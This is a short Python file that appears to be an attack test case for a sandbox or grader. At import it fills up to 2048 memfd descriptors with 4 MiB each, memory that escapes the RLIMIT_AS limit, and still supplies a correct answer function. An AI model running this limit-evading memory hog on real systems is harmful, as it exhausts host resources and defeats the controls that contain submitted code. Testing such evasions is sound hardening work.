"""Attack: holds memory outside the address-space limit: memfds filled with write() (never mapped,
so RLIMIT_AS does not count them), 4 MiB each (the file size limit) on as many descriptors as it
may open, kept open through every call. Right answers."""

import os

HELD = []


def _hog() -> str:
    chunk = b"x" * (1 << 20)
    try:
        while len(HELD) < 2048:
            fd = os.memfd_create("hog")
            HELD.append(fd)
            for _ in range(4):
                os.write(fd, chunk)
    except OSError as exc:
        if not HELD:
            return f"refused ({type(exc).__name__})"
    return f"held {4 * len(HELD)} MiB"


print("memfd:", _hog())


def scores(q, keys):
    return keys @ q
